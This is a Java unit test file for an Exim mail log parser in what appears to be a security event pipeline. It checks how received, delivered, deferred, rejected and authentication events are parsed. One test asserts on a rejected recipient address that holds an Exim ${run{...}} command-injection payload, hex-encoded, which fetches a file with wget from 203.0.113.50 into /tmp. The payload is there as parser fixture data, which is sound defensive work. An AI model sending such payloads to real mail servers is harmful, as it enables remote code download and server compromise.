package dev.cloudwarden.engine.ingest.exim;

import com.fasterxml.jackson.databind.JsonNode;
import dev.cloudwarden.engine.event.Event;
import dev.cloudwarden.engine.event.OcsfClass;
import dev.cloudwarden.engine.event.Outcome;
import dev.cloudwarden.engine.event.SourceType;
import dev.cloudwarden.engine.ingest.GoldenFiles;
import dev.cloudwarden.engine.ingest.IngestOptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class EximFormatTest {
    @TempDir
    Path dir;

    @Test
    void mainlogGolden() {
        List<Event> events = GoldenFiles.check("exim/mainlog.log");
        assertThat(events).hasSize(33).allMatch(e -> e.source() == SourceType.EXIM
                && e.ocsfClass() == OcsfClass.EMAIL_ACTIVITY);

        Event received = find(events, "<= alice@example.net");
        JsonNode raw = received.raw().tree();
        assertThat(received.time()).isEqualTo(Instant.parse("2026-03-16T08:01:13Z"));
        assertThat(raw.get("message_id").asText()).isEqualTo("1tXyZa-000AbC-Q1");
        assertThat(raw.get("flag").asText()).isEqualTo("<=");
        assertThat(raw.get("address").asText()).isEqualTo("alice@example.net");
        assertThat(raw.get("sender").asText()).isEqualTo("alice@example.net");
        assertThat(raw.get("host_name").asText()).isEqualTo("mail.example.net");
        assertThat(raw.get("host_ip").asText()).isEqualTo("198.51.100.4");
        assertThat(raw.get("host_port").asInt()).isEqualTo(49152);
        assertThat(raw.get("protocol").asText()).isEqualTo("esmtps");
        assertThat(raw.get("size").asLong()).isEqualTo(4821);
        assertThat(raw.get("id").asText()).isEqualTo("CAFx1abc234@mail.example.net");
        assertThat(raw.get("message").asText()).startsWith("1tXyZa-000AbC-Q1 <= alice@example.net H=");
        assertThat(received.src().ip()).isEqualTo("198.51.100.4");
        assertThat(received.src().host()).isEqualTo("mail.example.net");
        assertThat(received.operation().service()).isEqualTo("exim");
        assertThat(received.operation().name()).isEqualTo("received");
        assertThat(received.outcome()).isEqualTo(Outcome.SUCCESS);

        Event delivered = find(events, "=> carol@example.org");
        assertThat(delivered.operation().name()).isEqualTo("delivered");
        assertThat(delivered.raw().tree().get("router").asText()).isEqualTo("dnslookup");
        assertThat(delivered.raw().tree().get("transport").asText()).isEqualTo("remote_smtp");
        assertThat(delivered.raw().tree().get("confirmation").asText()).isEqualTo("250 2.0.0 Ok: queued as 4Tz1Qm3XyZz1");
        assertThat(delivered.src().isEmpty()).isTrue();
        assertThat(delivered.dst().ip()).isEqualTo("203.0.113.25");

        Event local = find(events, "<= www-data@web-1.example.com");
        assertThat(local.actor().principal()).isEqualTo("www-data");
        assertThat(local.raw().tree().get("local_user").asText()).isEqualTo("www-data");

        assertThat(find(events, "== eve@slow.example").operation().name()).isEqualTo("deferred");
        assertThat(find(events, "== eve@slow.example").outcome().status()).isEqualTo(Outcome.Status.FAILURE);
        Event bounce = find(events, "1tXyZd-000AbF-2c <= <>");
        assertThat(bounce.raw().tree().get("sender").asText()).isEmpty();
        assertThat(find(events, "1tXyZa-000AbC-Q1 Completed").operation().name()).isEqualTo("completed");

        Event exploit = find(events, "F=<> rejected RCPT <${run{");
        assertThat(exploit.operation().name()).isEqualTo("rejected");
        assertThat(exploit.outcome().status()).isEqualTo(Outcome.Status.FAILURE);
        assertThat(exploit.src().ip()).isEqualTo("203.0.113.50");
        assertThat(exploit.raw().tree().get("helo").asText()).isEqualTo("localhost");
        assertThat(exploit.raw().tree().has("host_name")).isFalse();
        assertThat(exploit.raw().tree().get("sender").asText()).isEmpty();
        assertThat(exploit.raw().tree().get("address").asText())
                .isEqualTo("${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20203.0.113.50\\x2Fsbz\\x20\\x2DO\\x20\\x2Ftmp\\x2Fbaby\\x22}}@localhost");

        Event bounced = find(events, "** root+${run{");
        assertThat(bounced.operation().name()).isEqualTo("failed");
        assertThat(bounced.raw().tree().get("address").asText()).startsWith("root+${run{").endsWith("@mail.example.com");

        Event connection = find(events, "SMTP connection from [198.51.100.4]:49152");
        assertThat(connection.operation().name()).isEqualTo("connection");
        assertThat(connection.src().ip()).isEqualTo("198.51.100.4");
        assertThat(connection.src().port()).isEqualTo(49152);

        Event authenticated = find(events, "A=dovecot_login:billing@example.com");
        assertThat(authenticated.actor().principal()).isEqualTo("billing@example.com");
        assertThat(authenticated.raw().tree().get("helo").asText()).isEqualTo("mail.example.com");

        Event bounceOf = find(events, "R=1tXyZc-000AbE-Mn");
        assertThat(bounceOf.raw().tree().get("parent_message_id").asText()).isEqualTo("1tXyZc-000AbE-Mn");
        assertThat(bounceOf.raw().tree().has("router")).isFalse();

        Event authFailed = find(events, "authenticator failed");
        assertThat(authFailed.operation().name()).isEqualTo("auth_failed");
        assertThat(authFailed.outcome().status()).isEqualTo(Outcome.Status.FAILURE);
        assertThat(authFailed.actor().principal()).isEqualTo("admin@example.com");
        assertThat(authFailed.src().ip()).isEqualTo("192.0.2.131");

        Event dropped = find(events, "SMTP call from");
        assertThat(dropped.src().ip()).isEqualTo("192.0.2.140");
        assertThat(dropped.raw().tree().has("confirmation")).isFalse();

        Event daemon = events.get(0);
        assertThat(daemon.operation().name()).isEqualTo("log");
        assertThat(daemon.outcome()).isEqualTo(Outcome.UNKNOWN);
    }

    @Test
    void pidTimezoneAndNewMessageIdsGolden() {
        List<Event> events = GoldenFiles.check("exim/mainlog-pid-tz.log");
        assertThat(events).hasSize(6);
        Event first = events.get(0);
        assertThat(first.time()).isEqualTo(Instant.parse("2026-03-16T11:00:01.221Z"));
        assertThat(first.raw().tree().get("pid").asLong()).isEqualTo(4101);
        assertThat(first.raw().tree().get("message_id").asText()).isEqualTo("1rGkBp-000000006Zt-2Xx8");
        assertThat(first.raw().tree().get("message").asText()).startsWith("1rGkBp-000000006Zt-2Xx8 <= ops@example.com");
        assertThat(first.raw().tree().get("host_name").asText()).isEqualTo("localhost");
        assertThat(first.raw().tree().get("helo").asText()).isEqualTo("web-1.example.com");
        assertThat(events.get(2).operation().name()).isEqualTo("completed");
        Event rejected = events.get(4);
        assertThat(rejected.operation().name()).isEqualTo("rejected");
        assertThat(rejected.raw().tree().get("address").asText()).isEqualTo("admin@example.com");
        assertThat(rejected.raw().tree().get("sender").asText()).isEqualTo("test@scan.example.net");
        assertThat(events.get(5).src().host()).isEqualTo("scan.example.net");
    }

    @Test
    void malformedLinesAreRejectedWithTheirReasonAndTheNextLinesStillParse() throws IOException {
        Path file = Files.writeString(dir.resolve("mainlog"), """
                2026-03-16 08:01:13 1tXyZa-000AbC-Q1 <= alice@example.net H=mail.example.net [198.51.100.4] P=esmtp S=10
                2026-03-16T08:01:14 1tXyZa-000AbC-Q1 Completed
                2026-02-30 08:01:15 1tXyZa-000AbC-Q1 Completed
                Mar 16 08:01:16 host exim[12]: something
                2026-03-16 08:01:17 1tXyZa-000AbC-Q1 Completed
                """);
        GoldenFiles.Collected c = GoldenFiles.read(file, IngestOptions.defaults());
        assertThat(c.events).hasSize(2);
        assertThat(c.rejections).extracting(r -> r.reason()).containsExactly(
                "timestamp '2026-03-16T08:01:14' is not an Exim time (expected e.g. '2019-06-05 12:34:56')",
                "timestamp '2026-02-30 08:01:15' is not an Exim time (expected e.g. '2019-06-05 12:34:56')",
                "timestamp 'Mar 16 08:01:16 hos' is not an Exim time (expected e.g. '2019-06-05 12:34:56')");
    }

    @Test
    void autodetection() throws IOException {
        EximFormat format = new EximFormat();
        assertThat(format.recognizes("2019-06-05 12:34:56 1hYXXX-0001Xx-Ab <= sender@example.com H=mail.example.com [198.51.100.4] P=esmtp S=1234")).isTrue();
        assertThat(format.recognizes("2019-06-05 12:34:56 exim 4.92 daemon started: pid=1023, -q30m, listening for SMTP on port 25 (IPv4)")).isTrue();
        assertThat(format.recognizes("2019-06-05 12:34:56 [1234] H=(localhost) [203.0.113.50] F=<> rejected RCPT <a@b>: x")).isTrue();
        assertThat(format.recognizes("2019-09-14 10:22:15,330 INFO resourcemanager.RMAuditLogger: USER=dr.who")).isFalse();
        assertThat(format.recognizes("2019-06-05 12:34:56 something else entirely")).isFalse();

        Path file = Files.writeString(dir.resolve("mainlog"),
                "2019-06-05 12:34:56 1hYXXX-0001Xx-Ab <= sender@example.com H=mail.example.com [198.51.100.4] P=esmtp S=1234 id=abc@example.com\n");
        GoldenFiles.Collected c = GoldenFiles.read(file, IngestOptions.defaults());
        assertThat(c.events).singleElement().satisfies(e -> {
            assertThat(e.source()).isEqualTo(SourceType.EXIM);
            assertThat(e.raw().tree().get("size").asLong()).isEqualTo(1234);
        });
    }

    private static Event find(List<Event> events, String text) {
        return events.stream().filter(e -> e.raw().text().contains(text)).findFirst()
                .orElseThrow(() -> new AssertionError("no event with '" + text + "'"));
    }
}
